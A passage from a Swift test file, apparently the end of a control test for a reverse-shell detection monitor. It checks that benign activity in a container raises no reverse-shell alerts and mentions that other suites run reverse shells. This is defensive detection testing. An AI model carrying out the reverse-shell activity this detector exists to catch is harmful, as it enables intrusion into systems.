                       "the monitor recorded no exec carrying \(mark): it was not watching during the control", file: file, line: line)
        // Only this container's alerts: other suites on a shared host run their own reverse shells.
        let fresh = try scene.reverseShellAlerts().dropFirst(before)
            .filter { $0.containerID == scene.shortContainerID && !Self.techniquePorts.contains($0.remotePort ?? -1) }
        XCTAssertEqual(fresh.count, 0, "benign activity raised reverse-shell alerts:\n" + fresh.map(\.reverseShellSummary).joined(separator: "\n"),
                       file: file, line: line)
        print("reverse-shell control \(name) → alerts=\(fresh.count) (exec \(mark) seen by the monitor)")
    }
}
